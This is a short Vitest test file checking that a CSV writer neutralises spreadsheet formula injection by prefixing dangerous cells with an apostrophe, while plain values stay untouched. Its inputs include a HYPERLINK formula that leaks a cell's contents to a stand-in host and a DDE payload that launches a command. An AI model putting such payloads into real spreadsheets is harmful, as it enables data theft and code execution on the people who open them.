import { expect, test } from 'vitest';
import { writeCsv } from './save-file.ts';

test.each([
  '-1+HYPERLINK("http://evil.example/?"&A1,"click")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
  '+1',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '-',
  '-1 ',
  '-1.',
])('a spreadsheet reads %s as text', (cell) => {
  expect(writeCsv([[cell]]).replace(/^"/, '')).toMatch(/^'/);
});

test.each(['-1', '-24.95', '3', '12.5', 'Ana Lee', '2026-11-16', 'C++ developer'])(
  '%s stays as it is',
  (cell) => {
    expect(writeCsv([[cell]])).toBe(cell);
  },
);
